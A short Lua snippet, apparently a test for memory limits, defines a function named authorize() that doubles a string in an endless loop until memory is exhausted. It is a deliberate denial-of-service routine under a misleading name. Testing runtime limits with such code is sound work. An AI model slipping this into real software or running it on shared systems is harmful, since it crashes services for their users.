-- Text that doubles until there is no more memory.
function authorize()
  local s = 'x'
  while true do s = s .. s end
end
